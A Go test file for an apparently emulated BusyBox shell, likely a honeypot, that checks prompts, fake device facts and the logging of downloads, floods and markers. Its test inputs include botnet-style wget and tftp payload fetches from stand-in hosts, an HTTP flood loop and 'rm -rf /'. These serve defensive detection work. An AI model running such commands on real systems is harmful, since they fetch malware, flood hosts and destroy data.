package busybox

import (
	"context"
	"strings"
	"testing"
)

func newTestDevice(t *testing.T, p Profile, lim Limits) *Device {
	t.Helper()
	d, err := NewDevice(p, lim)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// TestShellAPI drives the exported API as a protocol package does.
func TestShellAPI(t *testing.T) {
	d := newTestDevice(t, DefaultProfile(), Limits{MaxCommands: 3})
	sh := d.NewShell(context.Background())
	defer sh.Close()
	if p := sh.Prompt(); p != "~ # " {
		t.Fatalf("prompt %q", p)
	}
	r := sh.Run("cd /tmp; wget http://192.0.2.1/bins/x.arm; echo done")
	if !strings.HasSuffix(string(r.Output), "done\n") || r.Exited || r.Limited || r.Continue {
		t.Fatalf("result %+v", r)
	}
	want := Download{URL: "http://192.0.2.1/bins/x.arm", Tool: "wget", Filename: "/tmp/x.arm", Ran: true}
	if len(r.Downloads) != 1 || r.Downloads[0] != want {
		t.Fatalf("downloads %+v", r.Downloads)
	}
	if p := sh.Prompt(); p != "/tmp # " {
		t.Fatalf("prompt after cd %q", p)
	}
	if r := sh.Run("true"); r.Limited {
		t.Fatal("limited after 2 lines of 3")
	}
	if r := sh.Run("true"); !r.Limited {
		t.Fatal("not limited after 3 lines of 3")
	}
	sh2 := d.NewShell(context.Background())
	defer sh2.Close()
	if r := sh2.Run("exit"); !r.Exited || len(r.Output) != 0 {
		t.Fatalf("exit: %+v", r)
	}
}

func TestNewDeviceValidates(t *testing.T) {
	p := DefaultProfile()
	p.Arch, p.MAC, p.Address, p.MemoryKB = "riscv", "zz", "300.1.1.1/24", 1
	_, err := NewDevice(p, Limits{})
	for _, field := range []string{"arch", "mac", "address", "memory_kb"} {
		if err == nil || !strings.Contains(err.Error(), field+":") {
			t.Fatalf("NewDevice = %v, want it to name %s", err, field)
		}
	}
	if _, err := NewDevice(DefaultProfile(), Limits{MaxCommands: -1}); err == nil || !strings.Contains(err.Error(), "max_commands") {
		t.Fatalf("negative max_commands: %v", err)
	}
}

// TestFactsPerDeployment: two seeds give two devices that answer
// ifconfig, free and df differently; one seed always answers the same; a
// fact set in the profile is what the device shows.
func TestFactsPerDeployment(t *testing.T) {
	answer := func(p Profile) string {
		sh := newTestDevice(t, p, Limits{}).NewShell(context.Background())
		defer sh.Close()
		return string(sh.Run("ifconfig eth0; free; df; cat /proc/net/arp /proc/meminfo").Output)
	}
	a, b := DefaultProfile(), DefaultProfile()
	a.Seed, b.Seed = "sensor-a", "sensor-b"
	if answer(a) == answer(b) {
		t.Fatal("two seeds, one device")
	}
	if first, again := answer(a), answer(a); first != again {
		t.Fatal("one seed, two answers")
	}
	a.MAC, a.Address, a.Gateway, a.MemoryKB = "00:12:12:aa:bb:cc", "10.1.2.3/16", "10.1.0.254", 123456
	out := answer(a)
	for _, want := range []string{"HWaddr 00:12:12:AA:BB:CC", "inet addr:10.1.2.3  Bcast:10.1.255.255  Mask:255.255.0.0", "10.1.0.254", "123456"} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in\n%s", want, out)
		}
	}
}

// TestShellAPIStates covers the states a transport must follow: an
// unfinished line (Continue, "> "), a password prompt (Secret, no prompt
// of its own), flood targets apart from downloads, URLs of commands that
// did not run, markers.
func TestShellAPIStates(t *testing.T) {
	d := newTestDevice(t, DefaultProfile(), Limits{})
	sh := d.NewShell(context.Background())
	defer sh.Close()

	if r := sh.Run(`echo "a`); !r.Continue || len(r.Output) != 0 || sh.Prompt() != "> " {
		t.Fatalf("open quote: %+v prompt %q", r, sh.Prompt())
	}
	if r := sh.Run(`b"`); r.Continue || string(r.Output) != "a\nb\n" || sh.Prompt() != "~ # " {
		t.Fatalf("closed quote: %+v prompt %q", r, sh.Prompt())
	}

	if r := sh.Run("passwd"); string(r.Output) != "Changing password for root\nNew password: " || sh.Prompt() != "" {
		t.Fatalf("passwd: %q prompt %q", r.Output, sh.Prompt())
	}
	if r := sh.Run("pw1"); !r.Secret || string(r.Output) != "\nRetype password: " {
		t.Fatalf("first answer: %+v", r)
	}
	if r := sh.Run("pw1"); !r.Secret || !strings.Contains(string(r.Output), "password for root is unchanged") || sh.Prompt() != "~ # " {
		t.Fatalf("second answer: %+v", r)
	}

	r := sh.Run(`cd /tmp; sh -c "while true; do wget -q -O /dev/null http://198.51.100.1/; done" & wget http://192.0.2.1/a || tftp -r b -g 192.0.2.2; /bin/busybox ECCHI`)
	if len(r.Floods) != 1 || r.Floods[0].URL != "http://198.51.100.1/" || r.Floods[0].Requests < 2 || !r.Floods[0].Ran {
		t.Errorf("floods %+v", r.Floods)
	}
	want := []Download{
		{URL: "http://192.0.2.1/a", Tool: "wget", Filename: "/tmp/a", Ran: true},
		{URL: "tftp://192.0.2.2/b", Tool: "tftp", Filename: "/tmp/b", Ran: false},
	}
	if len(r.Downloads) != len(want) || r.Downloads[0] != want[0] || r.Downloads[1] != want[1] {
		t.Errorf("downloads %+v, want %+v", r.Downloads, want)
	}
	if len(r.Markers) != 1 || r.Markers[0] != "ECCHI" {
		t.Errorf("markers %q", r.Markers)
	}
	// Up arrow recalls the last line.
	if l, ok := EditLine("\x1b[A", sh.LastLine()); !ok || l != sh.LastLine() {
		t.Errorf("up arrow: %q", l)
	}
	if l, ok := EditLine("ls -x\x7fa", ""); !ok || l != "ls -a" {
		t.Errorf("backspace: %q", l)
	}
	if l, _ := EditLine("rm -rf /\x03", ""); l != "" {
		t.Errorf("^C kept %q", l)
	}
	if l, _ := EditLine("rm -rf /\x03ls", ""); l != "ls" {
		t.Errorf("^C then ls: %q", l)
	}
}
